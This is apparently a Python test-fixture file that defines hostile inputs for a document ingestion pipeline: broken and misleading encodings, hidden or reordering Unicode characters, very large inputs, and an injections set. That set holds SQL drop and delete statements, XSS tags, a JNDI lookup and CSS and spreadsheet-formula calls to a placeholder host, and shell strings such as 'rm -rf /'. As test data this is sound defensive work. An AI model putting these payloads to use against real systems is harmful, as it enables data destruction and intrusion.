"""Characters and encodings that are wrong, hidden, or endless."""

from __future__ import annotations

from collections.abc import Callable

from tests.faults.hostile_case import PROSE, Hostile, page, prose, stored, words

MILLION = 1_000_000
WIDE = "Zurich’s “Café” pays €9 million. "


def _text(name: str, more: str | Callable[[], str], result: str = "") -> Hostile:
    """An article with `more` behind it."""

    def content() -> bytes:
        added = more() if callable(more) else more
        return (prose(name) + added).encode("utf-8", "surrogatepass")

    return Hostile(f"{name}.txt", words(content), result or stored(name), name)


def _bytes(name: str, content: bytes, result: str = "") -> Hostile:
    return Hostile(f"{name}.txt", words(content), result or stored(name), name)


ENCODINGS = (
    _bytes("utf-16-mark", prose("utf-16-mark").encode("utf-16")),
    _bytes("utf-16-le", prose("utf-16-le").encode("utf-16-le")),
    _bytes("utf-16-be", prose("utf-16-be").encode("utf-16-be")),
    _bytes("utf-16-odd", prose("utf-16-odd").encode("utf-16") + b"\x20"),
    _bytes("utf-32", prose("utf-32").encode("utf-32")),
    _bytes("utf-8-mark", b"\xef\xbb\xbf" + prose("utf-8-mark").encode()),
    _bytes("marks-within", prose("marks-within").replace(" ", " \ufeff").encode()),
    _bytes("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + prose("utf-7").encode()),
    _bytes("windows", (prose("windows") + WIDE).encode("windows-1252"), "“Café” pays"),
    _bytes(
        "wrong-charset",
        page("wrong-charset", f"<p>{WIDE}</p>", "<meta charset='iso-8859-1'>").encode(),
        "“Café” pays",
    ),
    _bytes(
        "wrong-utf-8",
        page("wrong-utf-8", f"<p>{WIDE}</p>", "<meta charset='utf-8'>").encode("windows-1252"),
        "“Café” pays",
    ),
    _bytes("unknown-charset", page("unknown-charset", "", "<meta charset='x-klingon'>").encode()),
    _bytes(
        "mojibake", (prose("mojibake") + WIDE.encode().decode("windows-1252", "replace")).encode()
    ),
    _bytes("cut-character", (prose("cut-character") + "Café").encode()[:-1]),
    _bytes("some-bad-bytes", prose("some-bad-bytes").encode() + b"\xff\xfe\xfd"),
    _bytes("overlong", prose("overlong").encode() + b"\xc0\xaf\xe0\x80\xaf"),
    _bytes(
        "surrogates-as-utf-8", prose("surrogates-as-utf-8").encode() + b"\xed\xa0\x80\xed\xbf\xbf"
    ),
    _bytes("half-surrogates", b"\xff\xfe" + b"\x00\xd8" * 500, "unreadable_encoding"),
    _bytes(
        "nul-within",
        prose("nul-within").replace("million", "mil\x00lion").encode(),
        "US$40 million",
    ),
    _bytes("nul-only", bytes(10_000), "empty_document"),
    _bytes("noise", bytes(range(256)) * 400, "binary_document"),
    _bytes("picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "binary_document"),
    _bytes("portable-document", b"%PDF-1.7\n" + PROSE.encode() * 20, "binary_document"),
    _bytes("program", b"\x7fELF\x02\x01\x01" + bytes(900), "binary_document"),
    _bytes("page-named-text", page("page-named-text").encode()),
    Hostile(
        "picture.html",
        words(b"\xff\xd8\xff\xe0" + bytes(900)),
        "binary_document",
        "a photograph named page",
    ),
    Hostile("text.html", words(prose("textpage")), stored("textpage"), "text named page"),
    Hostile(
        "database.txt", words(b"SQLite format 3\x00" + bytes(900)), "binary_document", "a database"
    ),
)
"""Bytes that are not what they seem."""

CHARACTERS = (
    _text("bidi", "\u202eUS$99 million\u202c \u2066hidden\u2069" + "\u202e" * 100_000),
    _text(
        "zero-width",
        "It paid U\u200bS\u200c$\u200d4\ufeff1 mil\u00adlion.",
        "It paid US$41 million.",
    ),
    _text("tag-characters", "It paid US$\U000e00314\U000e00412 million.", "It paid US$42 million."),
    _text("decomposed", "The Cafe\u0301 of Zu\u0308rich.", "The Café of Zürich."),
    _text("marks-200000", "e" + "\u0315\u0300" * 100_000 + " ends."),
    _text("noncharacters", "\ufffe\uffff\U0001ffff\ufdd0 ends."),
    _text("line-breaks", "one\u2028two\u2029three\x85four\x0bfive\x0csix\rseven"),
    _text("colours", "\x1b[31mred\x1b]0;owned\x07 ends."),
    _text("digits-of-the-world", "It paid ٤٢ and ４２ and 𝟜𝟚 million dollars."),
    _text("spaces", lambda: " " * MILLION + "\u00a0" * 1000 + "ends."),
    _text("line-feeds", lambda: "\n" * MILLION + "ends."),
    _text("brackets", "(" * 200_000),
    _text("quotes", "“" * 200_000),
    _text("stops", "." * 200_000),
    _text("addresses", "www." * 50_000),
    _text("initials", "A." * 50_000),
    _text("names", "Jane Roe " * 20_000),
    _text("by-names", "\nBy " + "Jane Roe, " * 10_000),
    _text("ranges", "\n" + "5-" * 50_000),
    _text("amounts", "\n" + "$5 " * 2_000),
    _text("amounts-50000", "\n" + "$5 " * 50_000, "too_many_rows"),
    _text("exponents", "\nIt grew by 1e999999 and " + "9" * 100_000 + " and 1e-999999 per cent."),
    _text("one-line-10-mb", lambda: "\n" + PROSE * 45_000, "document_too_large"),
    _text("one-word-10-mb", lambda: "\n" + "a" * 10 * MILLION, "document_too_large"),
    _text("one-number-4-mb", lambda: "\n" + "9" * 4 * MILLION, "document_too_large"),
    _text("lines-30000", "\nA line.\n" * 30_000, "document_too_large"),
    _bytes("marks-only", ("\u0315\u0300" * 100_000).encode(), "empty_document"),
    _bytes("zero-width-only", ("\u200b\u202e" * 1000).encode(), "empty_document"),
)
"""Characters that hide, reorder or repeat themselves."""

INJECTIONS = (
    _text("statement", "\n'; DROP TABLE core.articles; -- \"; DELETE FROM raw.captures; /*"),
    _text("markup", "\n<script>alert(1)</script></title><img src=x onerror=alert(1)>"),
    _text("one-tag", "\n<img src=x onerror=alert(1)>"),
    _text("style", "\n</style><style>@import 'http://{host}/a.css';*{background:url(//{host})}"),
    _text("formula", '\n=HYPERLINK("http://{host}","US$5 million")\n+cmd|\' /C calc\'!A0\n@SUM(1)'),
    _text("template", "\n{{7*7}} {% include '{secret}' %} ${jndi:ldap://{host}/a} %s%n%x"),
    _text("shell", "\n$(touch /tmp/owned) `id` ; rm -rf / | tee"),
    Hostile(
        "title-markup.html",
        words(
            page("title-markup").replace("<title>", "<title>&lt;script&gt;alert(1)&lt;/script&gt; ")
        ),
        stored("title-markup"),
        "a script in a title",
    ),
    Hostile(
        "title-formula.txt",
        words("=1+1 Harbour line of sums orders ferries\n\n" + prose("sums").partition("\n\n")[2]),
        stored("sums"),
        "a formula for a title",
    ),
)
"""Words that other programs would carry out."""

TEXTS = (*ENCODINGS, *CHARACTERS, *INJECTIONS)
